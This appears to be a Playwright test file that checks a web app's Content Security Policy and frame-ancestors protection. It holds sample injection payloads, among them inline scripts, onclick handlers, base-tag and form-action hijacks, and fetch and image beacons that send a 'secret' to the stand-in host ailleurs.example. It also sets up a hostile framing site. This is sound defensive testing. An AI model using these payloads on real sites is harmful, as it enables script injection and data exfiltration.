import { suite } from '../suite.ts';
import { saveButton } from './articles-tab-page.ts';
import { expect, test, wide } from './browser.ts';
import { standInFront } from './in-front-of-hosting.ts';

// What the product itself would break is an error of the console, which fails every journey.
test.describe('What somebody managed to put into a page', { tag: '@night' }, () => {
  const intrusions: Readonly<Record<string, string>> = {
    'script-src-elem': `const script = document.createElement('script');
      script.textContent = 'window.intruded = true';
      document.body.append(script);`,
    'script-src-attr': `const image = document.createElement('div');
      image.setAttribute('onclick', 'window.intruded = true');
      document.body.append(image);
      image.click();`,
    'connect-src': `fetch('https://ailleurs.example/?secret').catch(() => undefined);`,
    'img-src': `new Image().src = 'https://ailleurs.example/?secret';`,
    'frame-src': `const frame = document.createElement('iframe');
      frame.src = 'https://ailleurs.example/';
      document.body.append(frame);`,
    'form-action': `const form = document.createElement('form');
      form.action = 'https://ailleurs.example/';
      document.body.append(form);
      form.submit();`,
    'base-uri': `const base = document.createElement('base');
      base.href = 'https://ailleurs.example/';
      document.head.append(base);`,
    'object-src': `const object = document.createElement('object');
      object.data = '/emblem.svg';
      document.body.append(object);`,
    'worker-src': `try { new Worker('data:text/javascript,1'); } catch {}`,
    'style-src-elem': `const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = 'https://ailleurs.example/x.css';
      document.head.append(link);`,
    'style-src': `const style = document.createElement('style');
      style.textContent = 'body { display: none }';
      document.head.append(style);`,
  };

  test('is stopped and said, whatever it is', async ({ visit }) => {
    const { page, complaints, expectComplaint } = await visit('/contact');
    expectComplaint(/^Fetch API cannot load https:\/\/ailleurs\.example/);
    for (const [directive, script] of Object.entries(intrusions)) {
      const named = directive.replace(/-(elem|attr)$/, '');
      const violation = new RegExp(`violates the following .* directive:? ["']${named} `);
      expectComplaint(violation);
      const former = complaints.length;
      await page.evaluate(script);
      await expect.poll(() => complaints.slice(former).join('\n')).toMatch(violation);
      expect(await page.evaluate('window.intruded'), directive).toBeUndefined();
    }
  });
});

test(
  'The dashboard tries nothing that its policy forbids',
  { tag: '@night' },
  async ({ visit }) => {
    const { page } = await visit('/dashboard/articles', wide, { as: 'redaction' });
    // Chrome says nothing of code from text that was tried and refused.
    await page.addInitScript(() => {
      addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
        console.error(`${effectiveDirective} ${blockedURI}`);
      });
    });
    await page.reload();
    await page.getByRole('button', { name: 'Nouvel Article' }).click();
    await saveButton(page).click();
    await page.locator('[aria-invalid=true]').first().waitFor();
  },
);

test.describe('A site that puts pages into frames', { tag: '@night' }, () => {
  const ours = ['/', '/dashboard', '/inscription'];
  /** Another site, whose front page frames ours beside a page of its own. */
  const site = standInFront((url, response) => {
    const addresses = ['/own', ...ours.map((path) => suite.origin('hosting') + path)];
    const frames = addresses.map((src) => `<iframe src="${src}"></iframe>`);
    response.setHeader('Content-Type', 'text/html');
    response.end(url === '/own' ? '<h1>Own</h1>' : frames.join(''));
    return Promise.resolve();
  });
  test.afterAll(async () => (await site).close());

  test('shows its own, and none of ours', async ({ visit }) => {
    const { page, complaints, expectComplaint } = await visit('about:blank', wide);
    expectComplaint(/^Framing .* violates .* "frame-ancestors 'none'"/);
    await page.goto((await site).origin);
    const [, own, ...framed] = page.frames();
    await own?.locator('h1').waitFor();
    await expect
      .poll(() => framed.map((frame) => frame.url().split(':')[0]))
      .toEqual(ours.map(() => 'chrome-error'));
    await expect.poll(() => complaints.length).toBe(ours.length);
  });
});
